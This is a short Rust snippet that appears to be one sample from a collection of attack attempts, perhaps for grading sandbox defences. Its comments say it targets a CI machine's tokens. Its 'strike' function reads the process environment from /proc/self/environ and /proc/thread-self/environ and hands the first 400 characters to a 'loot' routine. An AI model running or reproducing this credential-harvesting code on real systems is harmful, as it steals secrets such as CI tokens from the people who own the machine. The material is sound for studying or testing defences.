//! tries: to read the environment it was started with
//! undefended: tokens of a CI machine
//! down: box
//! seen: graded 0

fn strike() {
    for path in ["/proc/self/environ", "/proc/thread-self/environ"] {
        if let Ok(bytes) = std::fs::read(path) {
            let text = String::from_utf8_lossy(&bytes);
            loot(&format!("{path}: {}", text.chars().take(400).collect::<String>()));
        }
    }
}
